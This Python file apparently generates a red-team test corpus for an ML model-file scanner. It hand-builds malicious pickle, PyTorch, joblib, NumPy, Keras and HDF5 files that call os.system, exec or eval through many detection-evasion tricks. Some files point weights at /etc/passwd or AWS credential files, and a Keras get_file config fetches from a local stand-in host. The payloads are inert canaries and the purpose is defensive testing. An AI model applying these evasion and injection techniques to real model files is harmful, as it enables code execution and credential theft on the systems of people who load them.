"""Independent red-team corpus for `mlsecops scan models`.

Usage: python bench/independent/gen_model_redteam.py DEST [--verify-twins]

Writes DEST/malicious/, DEST/benign/ and DEST/manifest.json. Written by the outside red team
from public research only (see README.md beside this file); the scanner's authors never saw it.

Safety: every malicious file is built from raw pickle opcodes, from edited JSON/HDF5/zip bytes, or
by handing an object whose ``__reduce__`` names a callable to a real saver. Saving never calls
that callable, and this program never loads, unpickles or executes a malicious file. Payloads are
inert canaries (``echo MLSECOPS-REDTEAM-CANARY``, paths under /tmp, 127.0.0.1:9). With
``--verify-twins`` it writes benign twins (same structure, the dangerous callable replaced by
``builtins.print``) to DEST/_twins/ and loads ONLY those, each in a subprocess, with the loader a
victim would use, to show that the real loader reaches the call.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path
from typing import Any

os.environ.setdefault("KERAS_BACKEND", "torch")

CMD = "echo MLSECOPS-REDTEAM-CANARY"
PYCODE = "__import__('os').system('echo MLSECOPS-REDTEAM-CANARY')"
TMPFILE = "/tmp/mlsecops-redteam-canary"
MARK_TWIN = "TWIN-REACHED"


@dataclass(frozen=True)
class V:
    """Values a builder plugs in: the malicious set, or the benign twin's."""

    mod: str
    name: str
    arg: str
    code: str
    twin: bool


MAL = V("os", "system", CMD, PYCODE, False)
TWIN = V("builtins", "print", MARK_TWIN, f"print('{MARK_TWIN}')", True)


# --------------------------------------------------------------------------- pickle assembler
PROTO = lambda n: b"\x80" + bytes([n])
STOP, MARK, TUPLE, TUPLE1, TUPLE2, TUPLE3 = b".", b"(", b"t", b"\x85", b"\x86", b"\x87"
REDUCE, BUILD, POP, DUP, NONE = b"R", b"b", b"0", b"2", b"N"
EMPTY_TUPLE, EMPTY_DICT, EMPTY_LIST, SETITEM, APPEND = b")", b"}", b"]", b"s", b"a"
STACK_GLOBAL, MEMOIZE, NEWOBJ, OBJ, DICT = b"\x93", b"\x94", b"\x81", b"o", b"d"
NEWTRUE, NEWFALSE = b"\x88", b"\x89"


def U(s: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


def U0(s: str) -> bytes:
    """Protocol-0 UNICODE (raw-unicode-escape, newline terminated)."""
    return b"V" + s.encode("raw_unicode_escape") + b"\n"


def S0(s: str) -> bytes:
    """Protocol-0 STRING."""
    return b"S" + repr(s).encode() + b"\n"


def B(b: bytes) -> bytes:
    """SHORT_BINBYTES / BINBYTES."""
    return b"C" + bytes([len(b)]) + b if len(b) < 256 else b"B" + struct.pack("<I", len(b)) + b


def I(n: int) -> bytes:
    return b"K" + bytes([n]) if 0 <= n < 256 else b"J" + struct.pack("<i", n)


def G(mod: str, name: str) -> bytes:
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def SG(mod: str, name: str) -> bytes:
    return U(mod) + U(name) + STACK_GLOBAL


def BINPUT(i: int) -> bytes:
    return b"q" + bytes([i])


def BINGET(i: int) -> bytes:
    return b"h" + bytes([i])


def LONG_BINPUT(i: int) -> bytes:
    return b"r" + struct.pack("<I", i)


def LONG_BINGET(i: int) -> bytes:
    return b"j" + struct.pack("<I", i)


def call(fn: bytes, *args: bytes) -> bytes:
    return fn + MARK + b"".join(args) + TUPLE + REDUCE


def framed(body: bytes, proto: int = 4) -> bytes:
    """Protocol 4/5 pickle with one FRAME around the body, as the C pickler writes it."""
    return PROTO(proto) + b"\x95" + struct.pack("<Q", len(body) + 1) + body + STOP


def p2(body: bytes) -> bytes:
    return PROTO(2) + body + STOP


def classic(v: V, proto: int = 2) -> bytes:
    return PROTO(proto) + call(G(v.mod, v.name), U(v.arg)) + STOP


def twin_mod(v: V, mal: bytes) -> bytes:
    """The malicious module object, or for the twin the builtins module (which has print)."""
    return call(G("importlib", "import_module"), U("builtins")) if v.twin else mal


def dotted(v: V, mod: str, path: str) -> bytes:
    """Protocol-4 dotted GLOBAL; the twin follows the same path to <module>.sys.stdout.write."""
    if v.twin:
        return G(mod, path.split(".")[0] + ".sys.stdout.write")
    return G(mod, path)


# objects handed to REAL savers: saving records the callable by reference, never calls it
class Reduce:
    def __init__(self, fn: Callable[..., Any], *args: Any) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.fn, self.args


def sysobj(v: V) -> Reduce:
    return Reduce(print, MARK_TWIN) if v.twin else Reduce(os.system, CMD)


# --------------------------------------------------------------------------- corpus bookkeeping
@dataclass
class Entry:
    path: str
    label: str
    cls: str
    fmt: str
    desc: str
    twin_loader: str | None = None  # python snippet using P (path); None: no twin for this one
    twin_name: str | None = None


@dataclass
class Corpus:
    dest: Path
    entries: list[Entry] = field(default_factory=list)
    twins: bool = False
    skipped: list[str] = field(default_factory=list)

    def add(
        self,
        label: str,
        cls: str,
        fmt: str,
        name: str,
        build: Callable[[V], bytes] | Callable[[V, Path], None],
        desc: str,
        loader: str | None = None,
        writes: bool = False,
    ) -> None:
        """build(V) -> bytes, or with writes=True build(V, path) writes the file itself."""
        sub = "malicious" if label == "malicious" else "benign"
        path = self.dest / sub / name
        path.parent.mkdir(parents=True, exist_ok=True)
        vals = MAL if label == "malicious" else TWIN
        try:
            if writes:
                build(vals, path)  # type: ignore[call-arg]
            else:
                path.write_bytes(build(vals))  # type: ignore[call-arg]
        except ImportError as exc:  # a saver's package is not installed: say so, keep going
            self.skipped.append(f"{sub}/{name}: {exc.name or exc}")
            return
        e = Entry(f"{sub}/{name}", label, cls, fmt, desc)
        if label == "malicious" and loader and self.twins:
            tpath = self.dest / "_twins" / name
            tpath.parent.mkdir(parents=True, exist_ok=True)
            if writes:
                build(TWIN, tpath)  # type: ignore[call-arg]
            else:
                tpath.write_bytes(build(TWIN))  # type: ignore[call-arg]
            e.twin_loader, e.twin_name = loader, f"_twins/{name}"
        self.entries.append(e)


L_PICKLE = "import pickle; pickle.load(open(P,'rb'))"
L_TORCH = "import torch; torch.load(P, weights_only=False)"
L_JOBLIB = "import joblib; joblib.load(P)"
L_NPY = "import numpy as np; np.load(P, allow_pickle=True)"
L_NPZ = "import numpy as np; d=np.load(P, allow_pickle=True); [d[k] for k in d.files]"
L_PANDAS = "import pandas as pd; pd.read_pickle(P)"
L_KERAS = (
    "import os; os.environ['KERAS_BACKEND']='torch'; import keras; "
    "keras.config.enable_unsafe_deserialization(); m = keras.saving.load_model(P, safe_mode=False); "
    "import numpy as np; m(np.zeros((1, 4), 'float32'))"
)

# Keras 3.15 refuses external datasets (CVE-2026-1669 fix); h5py, tf-keras and older Keras read
# them, so the twin is read the way such a reader does: every dataset through h5py.
L_KERAS_EXT = (
    "import h5py, io, zipfile, numpy as np; "
    "f = h5py.File(io.BytesIO(zipfile.ZipFile(P).read('model.weights.h5'))) if P.endswith('.keras') else h5py.File(P); "
    "v = []; f.visititems(lambda n, o: v.append(o[()]) if isinstance(o, h5py.Dataset) else None); "
    "print('TWIN-REACHED' if any(np.size(x) and np.allclose(x, 42.0) for x in v) else 'not read')"
)

# =========================================================================== malicious builders
def zip_bytes(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for n, d in members:
            z.writestr(zipfile.ZipInfo(n, (2024, 1, 1, 0, 0, 0)), d, compress_type=method)
    return buf.getvalue()


def torch_zip_with_pickle(pkl: bytes, prefix: str = "archive") -> bytes:
    """A PyTorch zip checkpoint laid out like torch.save's, with our data.pkl."""
    return zip_bytes(
        [
            (f"{prefix}/data.pkl", pkl),
            (f"{prefix}/.format_version", b"1"),
            (f"{prefix}/.storage_alignment", b"64"),
            (f"{prefix}/byteorder", b"little"),
            (f"{prefix}/version", b"3\n"),
        ]
    )


def real_torch_save(obj: Any, legacy: bool = False, proto: int = 2) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=not legacy, pickle_protocol=proto)
    return buf.getvalue()


def split_pickles(data: bytes) -> list[bytes]:
    """Split a stream of concatenated pickles (pickletools only parses, never executes)."""
    import pickletools

    out, pos = [], 0
    while pos < len(data):
        try:
            last = None
            for op, _arg, p in pickletools.genops(io.BytesIO(data[pos:])):
                last = (op, p)
            assert last is not None
            end = pos + last[1] + 1
        except (ValueError, AssertionError, struct.error):  # raw storage bytes after the last pickle
            out.append(data[pos:])
            break
        out.append(data[pos:end])
        pos = end
    return out


def legacy_torch(v: V, where: str) -> bytes:
    """Legacy (non-zip) torch.save stream: magic, protocol, sys_info, object, storage keys, data.

    The header pickles come from the real saver; `where` says which pickle carries the payload.
    """
    import torch

    real = real_torch_save({"w": torch.zeros(2)}, legacy=True)
    parts = split_pickles(real)
    magic, proto, sysinfo = parts[0], parts[1], parts[2]
    pay2 = classic(v)
    if where == "object-proto0":
        obj = b"(dp0\nVstep\np1\n" + G(v.mod, v.name) + b"(" + S0(v.arg) + b"tRp2\ns."
        return magic + proto + sysinfo + obj + b"(l."
    if where == "sysinfo":
        return magic + proto + pay2 + b"(dp0\n." + b"(l."
    if where == "magic":
        # the loader unpickles the magic number before comparing it
        return pay2 + proto + sysinfo + b"(dp0\n." + b"(l."
    if where == "keys":
        return magic + proto + sysinfo + b"(dp0\n." + pay2
    raise ValueError(where)


def legacy_torch_tar(v: V) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data in [
            ("sys_info", pickle.dumps({"protocol_version": 1001, "little_endian": True}, 2)),
            ("storages", pickle.dumps(0, 2) + pickle.dumps([], 2)),
            ("tensors", pickle.dumps(0, 2)),
            ("pickle", classic(v)),
        ]:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            t.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def joblib_bytes(obj: Any, compress: Any = 0) -> bytes:
    import joblib

    with tempfile.TemporaryDirectory() as d:
        p = os.path.join(d, "x.joblib")
        joblib.dump(obj, p, compress=compress)
        return Path(p).read_bytes()


def npy_bytes(arr: Any) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=True)
    return buf.getvalue()


def savez_bytes(**arrays: Any) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.savez_compressed(buf, **arrays)
    return buf.getvalue()


def obj_array(v: V, n: int = 2) -> Any:
    import numpy as np

    a = np.empty(n, dtype=object)
    a[0] = sysobj(v)
    for i in range(1, n):
        a[i] = i
    return a


def npy_with_descr(v: V, descr: str, version: int = 1) -> bytes:
    """An .npy whose header names the object dtype in another spelling; the data is a pickle."""
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}"
    hb = header.encode("latin1" if version < 3 else "utf8")
    pre = b"\x93NUMPY" + bytes([version, 0])
    lenfmt = "<H" if version == 1 else "<I"
    base = len(pre) + struct.calcsize(lenfmt) + len(hb) + 1
    pad = (64 - base % 64) % 64
    hb = hb + b" " * pad + b"\n"
    body = PROTO(3) + EMPTY_LIST + call(G(v.mod, v.name), U(v.arg)) + APPEND + STOP
    return pre + struct.pack(lenfmt, len(hb)) + hb + body


def lambda_code_b64(v: V) -> str:
    src = f"lambda x: ({v.code}, x)[1]"
    code = compile(src, "<layer>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def keras_base(path_h5: Path | None = None) -> tuple[bytes, dict[str, Any]]:
    """A real .keras archive with a harmless Lambda(x*2), and its parsed config."""
    import keras

    m = keras.Sequential(
        [keras.Input((4,)), keras.layers.Dense(3), keras.layers.Lambda(lambda x: x * 2.0)]
    )
    with tempfile.TemporaryDirectory() as d:
        p = os.path.join(d, "m.keras")
        m.save(p)
        data = Path(p).read_bytes()
        if path_h5 is not None:
            m.save(str(path_h5))
    cfg = json.loads(zipfile.ZipFile(io.BytesIO(data)).read("config.json"))
    return data, cfg


_KERAS_CACHE: dict[str, Any] = {}


def keras_cached() -> tuple[bytes, dict[str, Any]]:
    if "k" not in _KERAS_CACHE:
        _KERAS_CACHE["k"] = keras_base()
    data, cfg = _KERAS_CACHE["k"]
    return data, json.loads(json.dumps(cfg))


def lambda_layer(cfg: dict[str, Any]) -> dict[str, Any]:
    return next(la for la in cfg["config"]["layers"] if la["class_name"] == "Lambda")


def rezip(data: bytes, replace: dict[str, bytes], extra: list[tuple[str, bytes]] = ()) -> bytes:  # type: ignore[assignment]
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            z.writestr(info, replace.get(info.filename, src.read(info.filename)))
        for n, d in extra:
            z.writestr(n, d)
    return buf.getvalue()


def keras_lambda(v: V, transform: str = "plain") -> bytes:
    data, cfg = keras_cached()
    lam = lambda_layer(cfg)
    lam["config"]["function"]["config"]["code"] = lambda_code_b64(v)
    text = json.dumps(cfg)
    if transform == "escape":
        text = text.replace('"class_name": "Lambda"', '"class_name": "\\u004cambda"')
        text = text.replace('"name": "lambda"', '"name": "l\\u0061mbda"')
    elif transform == "bom":
        return rezip(data, {"config.json": b"\xef\xbb\xbf" + text.encode()})
    elif transform == "dupkey":
        text = text.replace('"class_name": "Lambda"', '"class_name": "Dense", "class_name": "Lambda"')
    elif transform == "dupmember":
        _, clean = keras_cached()
        # zipfile (and so keras) reads the LAST member of a name; the first is clean
        src = zipfile.ZipFile(io.BytesIO(data))
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("config.json", json.dumps(_no_lambda(clean)))
            for info in src.infolist():
                if info.filename != "config.json":
                    z.writestr(info, src.read(info.filename))
            import warnings

            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                z.writestr("config.json", text)
        return buf.getvalue()
    elif transform == "nested":
        inner = {
            "module": "keras",
            "class_name": "Sequential",
            "config": {
                "name": "inner",
                "trainable": True,
                "dtype": cfg["config"]["dtype"],
                "layers": [
                    {
                        "module": "keras.layers",
                        "class_name": "InputLayer",
                        "config": {"batch_shape": [None, 3], "dtype": "float32", "name": "inner_in"},
                        "registered_name": None,
                    },
                    lam,
                ],
            },
            "registered_name": None,
            "build_config": {"input_shape": [None, 3]},
        }
        layers = cfg["config"]["layers"]
        layers[layers.index(lam)] = inner
        text = json.dumps(cfg)
    return rezip(data, {"config.json": text.encode()})


def _no_lambda(cfg: dict[str, Any]) -> dict[str, Any]:
    cfg["config"]["layers"] = [la for la in cfg["config"]["layers"] if la["class_name"] != "Lambda"]
    return cfg


def keras_custom_module(v: V, kind: str) -> bytes:
    data, cfg = keras_cached()
    cfg = _no_lambda(cfg)
    dense = cfg["config"]["layers"][1]
    if kind == "module-os":
        # CVE-2025-1550 style: a config object naming an arbitrary module and callable
        dense["config"]["kernel_initializer"] = {
            "module": "os" if not v.twin else "builtins",
            "class_name": "system" if not v.twin else "print",
            "config": {"command": v.arg},
            "registered_name": None,
        }
    elif kind == "unsafe-then-lambda":
        cfg["config"]["layers"].insert(
            1,
            {
                "module": "keras.config",
                "class_name": "enable_unsafe_deserialization",
                "config": {},
                "registered_name": "enable_unsafe_deserialization",
            },
        )
        _, c2 = keras_cached()
        lam = lambda_layer(c2)
        lam["config"]["function"]["config"]["code"] = lambda_code_b64(v)
        cfg["config"]["layers"].append(lam)
    elif kind == "tfsmlayer":
        cfg["config"]["layers"].append(
            {
                "module": "keras.layers",
                "class_name": "TFSMLayer",
                "config": {
                    "name": "tfsm",
                    "filepath": "/tmp/mlsecops-redteam-savedmodel",
                    "call_endpoint": "serve",
                    "trainable": False,
                },
                "registered_name": None,
            }
        )
    elif kind == "get-file":
        dense["config"]["kernel_initializer"] = {
            "module": "keras.utils",
            "class_name": "get_file",
            "config": {"fname": TMPFILE, "origin": "http://127.0.0.1:9/canary"},
            "registered_name": None,
        }
    return rezip(data, {"config.json": json.dumps(cfg).encode()})


def h5_lambda(v: V, path: Path, userblock: bool = False, nested_escape: bool = False) -> None:
    import h5py

    with tempfile.TemporaryDirectory() as d:
        src = Path(d) / "m.h5"
        keras_base(src)
        with h5py.File(src, "r") as f:
            cfg = json.loads(f.attrs["model_config"])
        for la in cfg["config"]["layers"]:
            if la["class_name"] == "Lambda":
                la["config"]["function"]["config"]["code"] = lambda_code_b64(v)
        text = json.dumps(cfg)
        if nested_escape:
            text = text.replace('"class_name": "Lambda"', '"class_name": "\\u004cambda"')
        kw = {"userblock_size": 512} if userblock else {}
        with h5py.File(src, "r") as fin, h5py.File(path, "w", **kw) as fout:
            for k, val in fin.attrs.items():
                fout.attrs[k] = val
            fout.attrs["model_config"] = text
            for k in fin:
                fin.copy(k, fout)
        if userblock:
            with open(path, "r+b") as fh:
                fh.write(b"# model card: see README\n")


def h5_external(v: V, path: Path, kind: str) -> None:
    """A real Keras save, then the first kernel dataset re-created as HDF5 external storage.

    The malicious file points at /etc/passwd (or ~/.aws/credentials); the twin points at a file
    of float32 42.0 beside it, so the twin loader can show that Keras read it into the weights.
    """
    import h5py
    import keras

    if v.twin:
        target = str(path.parent / "twin-secret.bin")
        Path(target).write_bytes(struct.pack("<12f", *([42.0] * 12)))
    else:
        target = "/root/.aws/credentials" if kind == "weights" else "/etc/passwd"
    m = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3), keras.layers.Dense(2)])

    def rewrite(h5: Path) -> None:
        with h5py.File(h5, "a") as f:
            names: list[str] = []
            f.visititems(lambda n, o: names.append(n) if isinstance(o, h5py.Dataset) and o.shape == (4, 3) else None)
            n = names[0]
            shp, dt = f[n].shape, f[n].dtype
            del f[n]
            f.create_dataset(n, shape=shp, dtype=dt, external=[(target, 0, 48)])

    with tempfile.TemporaryDirectory() as d:
        if kind == "h5":
            m.save(str(path))
            rewrite(path)
        elif kind == "weights":
            m.save_weights(str(path))
            rewrite(path)
        elif kind == "link":
            m.save(str(path))
            with h5py.File(path, "a") as f:
                del f["model_weights"]
                f["model_weights"] = h5py.ExternalLink(target.replace("passwd", "shadow.h5"), "/model_weights")
        else:
            src = Path(d) / "m.keras"
            m.save(str(src))
            data = src.read_bytes()
            w = Path(d) / "w.h5"
            w.write_bytes(zipfile.ZipFile(io.BytesIO(data)).read("model.weights.h5"))
            rewrite(w)
            path.write_bytes(rezip(data, {"model.weights.h5": w.read_bytes()}))


def gguf_bytes(kvs: list[tuple[str, int, Any]], n_tensors: int | None = None, tensor: bool = True) -> bytes:
    """Minimal GGUF v3 file written to the published spec."""

    def s(x: str) -> bytes:
        b = x.encode()
        return struct.pack("<Q", len(b)) + b

    def val(t: int, x: Any) -> bytes:
        return {
            4: lambda: struct.pack("<I", x),
            6: lambda: struct.pack("<f", x),
            8: lambda: s(x),
            10: lambda: struct.pack("<Q", x),
        }[t]()

    body = b""
    for k, t, x in kvs:
        body += s(k) + struct.pack("<I", t) + val(t, x)
    tinfo = b""
    if tensor:
        tinfo = s("token_embd.weight") + struct.pack("<I", 1) + struct.pack("<Q", 4)
        tinfo += struct.pack("<I", 0) + struct.pack("<Q", 0)
    count = (1 if tensor else 0) if n_tensors is None else n_tensors
    head = b"GGUF" + struct.pack("<I", 3) + struct.pack("<Q", count) + struct.pack("<Q", len(kvs))
    out = head + body + tinfo
    out += b"\x00" * ((32 - len(out) % 32) % 32)
    if tensor:
        out += struct.pack("<4f", 0.1, 0.2, 0.3, 0.4)
    return out


# ---- protobuf (ONNX) by hand: onnx is not installed, so we write the wire format ourselves
def _varint(n: int) -> bytes:
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def _f(num: int, payload: bytes | int | str) -> bytes:
    if isinstance(payload, int):
        return _varint(num << 3) + _varint(payload)
    if isinstance(payload, str):
        payload = payload.encode()
    return _varint((num << 3) | 2) + _varint(len(payload)) + payload


def onnx_model(external: str | None) -> bytes:
    """y = x + W (Add), W a 4-float initializer, inline or in an external data file."""
    if external is None:
        w = _f(1, 4) + _f(2, 1) + _f(8, "W") + _f(9, struct.pack("<4f", 1, 2, 3, 4))
    else:
        w = _f(1, 4) + _f(2, 1) + _f(8, "W")
        w += _f(13, _f(1, "location") + _f(2, external))
        w += _f(13, _f(1, "offset") + _f(2, "0")) + _f(13, _f(1, "length") + _f(2, "16"))
        w += _f(14, 1)
    vinfo = lambda n: _f(1, n) + _f(2, _f(1, _f(1, 1) + _f(2, _f(1, _f(1, 4)))))
    node = _f(1, "x") + _f(1, "W") + _f(2, "y") + _f(3, "add0") + _f(4, "Add")
    graph = _f(1, node) + _f(2, "g") + _f(5, w) + _f(11, vinfo("x")) + _f(12, vinfo("y"))
    return _f(1, 8) + _f(2, "redteam") + _f(7, graph) + _f(8, _f(1, "") + _f(2, 17))


def _vinfo(n: str) -> bytes:
    return _f(1, n) + _f(2, _f(1, _f(1, 1) + _f(2, _f(1, _f(1, 4)))))


def _ext_tensor(name: str, location: str) -> bytes:
    return _f(1, 4) + _f(2, 1) + _f(8, name) + _f(13, _f(1, "location") + _f(2, location)) + _f(14, 1)


def _model(graph: bytes) -> bytes:
    return _f(1, 8) + _f(2, "redteam") + _f(7, graph) + _f(8, _f(1, "") + _f(2, 17))


def onnx_subgraph(location: str) -> bytes:
    """If(cond) { then: y = W (initializer W external) } else { y = x }."""
    then_g = _f(1, _f(1, "W") + _f(2, "t_out") + _f(4, "Identity")) + _f(2, "then") + _f(5, _ext_tensor("W", location))
    then_g += _f(12, _vinfo("t_out"))
    else_g = _f(1, _f(1, "x") + _f(2, "e_out") + _f(4, "Identity")) + _f(2, "else") + _f(12, _vinfo("e_out"))
    attrs = _f(5, _f(1, "then_branch") + _f(6, then_g) + _f(20, 5)) + _f(5, _f(1, "else_branch") + _f(6, else_g) + _f(20, 5))
    node = _f(1, "cond") + _f(2, "y") + _f(3, "if0") + _f(4, "If") + attrs
    cond = _f(1, "cond") + _f(2, _f(1, _f(1, 9) + _f(2, b"")))
    graph = _f(1, node) + _f(2, "g") + _f(11, cond) + _f(11, _vinfo("x")) + _f(12, _vinfo("y"))
    return _model(graph)


def onnx_constant_attr(location: str) -> bytes:
    attr = _f(1, "value") + _f(5, _ext_tensor("c", location)) + _f(20, 4)
    const = _f(2, "c") + _f(3, "const0") + _f(4, "Constant") + _f(5, attr)
    add = _f(1, "x") + _f(1, "c") + _f(2, "y") + _f(3, "add0") + _f(4, "Add")
    return _model(_f(1, const) + _f(1, add) + _f(2, "g") + _f(11, _vinfo("x")) + _f(12, _vinfo("y")))


def safetensors_raw(header: bytes, data: bytes = b"", declared: int | None = None) -> bytes:
    n = len(header) if declared is None else declared
    return struct.pack("<Q", n) + header + data


# =========================================================================== the corpus
def build_malicious(c: Corpus) -> None:
    M = "malicious"

    # ---- 1. baseline: plain REDUCE on well-known callables (control group)
    k = "baseline-reduce"
    c.add(M, k, "pickle", "baseline_os_system.pkl", classic, "GLOBAL os.system + REDUCE, protocol 2", L_PICKLE)
    c.add(M, k, "pickle", "baseline_posix_stackglobal.pickle",
          lambda v: framed(call(SG("posix" if not v.twin else v.mod, v.name), U(v.arg))),
          "protocol 4 FRAME + STACK_GLOBAL posix.system", L_PICKLE)
    c.add(M, k, "pickle", "baseline_exec.pkl",
          lambda v: pickle.dumps(Reduce(exec, v.code) if not v.twin else sysobj(v)),
          "real pickler, __reduce__ -> builtins.exec(code)", L_PICKLE)
    c.add(M, k, "pytorch-zip", "baseline_state_dict.pt",
          lambda v: real_torch_save({"weight": __import__("torch").zeros(3), "hook": sysobj(v)}),
          "real torch.save (zip) of a state dict holding a __reduce__ object", L_TORCH)
    c.add(M, k, "joblib", "baseline_joblib.joblib",
          lambda v: joblib_bytes({"model": [1, 2], "hook": sysobj(v)}),
          "real joblib.dump of a dict holding a __reduce__ object", L_JOBLIB)
    c.add(M, k, "pickle", "baseline_subprocess.bin",
          lambda v: p2(call(G("subprocess", "Popen") if not v.twin else G(v.mod, v.name),
                            MARK + U("echo") + U("MLSECOPS-REDTEAM-CANARY") + b"l" if not v.twin else U(v.arg))),
          "subprocess.Popen(['echo', ...]) in a .bin", L_PICKLE)

    # ---- 2. opcode variants that avoid GLOBAL+REDUCE pairs
    k = "opcode-variants"
    c.add(M, k, "pickle", "op_inst.pkl",
          lambda v: b"(" + U0(v.arg if v.twin else v.code) + b"i" + (b"builtins\nprint\n" if v.twin else b"builtins\neval\n") + b".",
          "INST opcode (protocol 0) calls builtins.eval without REDUCE", L_PICKLE)
    c.add(M, k, "pickle", "op_obj.pkl",
          lambda v: p2(MARK + G(v.mod, v.name) + U(v.arg) + OBJ),
          "OBJ opcode: MARK callable args OBJ calls os.system", L_PICKLE)
    c.add(M, k, "pickle", "op_build_setstate.pkl",
          lambda v: p2(call(G("types", "SimpleNamespace")) + NONE + EMPTY_DICT + U("__setstate__")
                       + G(v.mod, v.name) + SETITEM + TUPLE2 + BUILD + U(v.arg) + BUILD),
          "BUILD sets instance __setstate__=os.system, a second BUILD calls it (no REDUCE)", L_PICKLE)
    c.add(M, k, "pickle", "op_memo_confusion.pkl",
          lambda v: PROTO(4) + U(v.mod) + BINPUT(0) + U(v.name) + BINPUT(1) + POP + POP
          + U("torch._utils") + MEMOIZE + U("_rebuild_tensor_v2") + MEMOIZE + POP + POP
          + BINGET(0) + BINGET(1) + STACK_GLOBAL + U(v.arg) + TUPLE1 + REDUCE + STOP,
          "BINPUT and MEMOIZE mixed so memo 0/1 are not the last memoised strings", L_PICKLE)
    c.add(M, k, "pickle", "op_long_binget_dup.pkl",
          lambda v: p2(G(v.mod, v.name) + LONG_BINPUT(70000) + POP + NONE + POP
                       + LONG_BINGET(70000) + DUP + POP + U(v.arg) + TUPLE1 + REDUCE),
          "callable parked at memo 70000 via LONG_BINPUT, fetched with LONG_BINGET + DUP", L_PICKLE)
    c.add(M, k, "pickle", "op_attr_smuggle.pkl",
          lambda v: PROTO(4) + G("torch._utils", "_rebuild_tensor_v2") + NONE + EMPTY_DICT + U("m") + U(v.mod) + SETITEM
          + U("n") + U(v.name) + SETITEM + TUPLE2 + BUILD + POP
          + G("torch._utils", "_rebuild_tensor_v2.m") + G("torch._utils", "_rebuild_tensor_v2.n") + STACK_GLOBAL
          + U(v.arg) + TUPLE1 + REDUCE + STOP,
          "BUILD slot-state plants strings on a trusted function; dotted GLOBALs read them back for STACK_GLOBAL", L_PICKLE)

    # ---- 3. computed names for STACK_GLOBAL
    k = "computed-names"

    def rot13(s: str) -> str:
        return s.translate(str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm"))

    def cg_rot(v: V) -> bytes:
        dec = lambda s: call(G("_codecs", "decode"), U(rot13(s)), U("rot13"))
        return PROTO(4) + dec(v.mod) + dec(v.name) + STACK_GLOBAL + U(v.arg) + TUPLE1 + REDUCE + STOP

    def cg_rev(v: V) -> bytes:
        rev = lambda s: call(G("_operator", "getitem"), U(s[::-1]) + call(G("builtins", "slice"), NONE + NONE + b"J\xff\xff\xff\xff"))
        return PROTO(4) + rev(v.mod) + rev(v.name) + STACK_GLOBAL + U(v.arg) + TUPLE1 + REDUCE + STOP

    def cg_b64(v: V) -> bytes:
        dec = lambda s: call(G("_codecs", "decode"), call(G("base64", "b64decode"), U(base64.b64encode(s.encode()).decode())), U("ascii"))
        return PROTO(4) + dec(v.mod) + dec(v.name) + STACK_GLOBAL + U(v.arg) + TUPLE1 + REDUCE + STOP

    def cg_concat(v: V) -> bytes:
        cat = lambda s: call(G("_operator", "add"), U(s[: len(s) // 2]), U(s[len(s) // 2:]))
        return PROTO(4) + cat(v.mod if v.twin else "posix") + cat(v.name) + STACK_GLOBAL + U(v.arg) + TUPLE1 + REDUCE + STOP

    c.add(M, k, "pickle", "cn_rot13.pkl", cg_rot, "module/name decoded with _codecs.decode(rot13) at load", L_PICKLE)
    c.add(M, k, "pickle", "cn_reversed.pkl", cg_rev, "names = 'metsys'[::-1] via _operator.getitem + slice", L_PICKLE)
    c.add(M, k, "pytorch-zip", "cn_b64_in_torch.pt", lambda v: torch_zip_with_pickle(cg_b64(v)),
          "torch zip whose data.pkl decodes base64 names for STACK_GLOBAL", L_TORCH)
    c.add(M, k, "joblib", "cn_concat.joblib", cg_concat, "names built with _operator.add('po','six')", L_JOBLIB)

    # ---- 4. string -> callable resolvers
    k = "indirect-import"
    c.add(M, k, "pickle", "ind_pkgutil.pkl",
          lambda v: p2(call(call(G("pkgutil", "resolve_name"), U(f"{v.mod}:{v.name}")), U(v.arg))),
          "pkgutil.resolve_name('os:system') returns the callable, then REDUCE", L_PICKLE)

    def via_module(getmod: Callable[[V], bytes]) -> Callable[[V], bytes]:
        return lambda v: p2(call(call(G("_operator", "methodcaller"), U(v.name), U(v.arg)), getmod(v)))

    c.add(M, k, "pickle", "ind_importlib.pkl",
          via_module(lambda v: call(G("importlib", "import_module"), U(v.mod))),
          "importlib.import_module('os') + operator.methodcaller('system', cmd)", L_PICKLE)
    c.add(M, k, "pytorch-zip", "ind_dunder_import.pth",
          lambda v: torch_zip_with_pickle(p2(call(call(G("builtins", "getattr"), call(G("builtins", "__import__"), U(v.mod)), U(v.name)), U(v.arg)))),
          "torch zip: builtins.getattr(builtins.__import__('os'), 'system')", L_TORCH)
    c.add(M, k, "pickle", "ind_shutil_os_attrgetter.pkl",
          lambda v: p2(call(call(call(G("_operator", "attrgetter"), U(v.name)), twin_mod(v, G("shutil", "os"))), U(v.arg))),
          "os module fetched as attribute 'os' of module shutil; operator.attrgetter('system')", L_PICKLE)
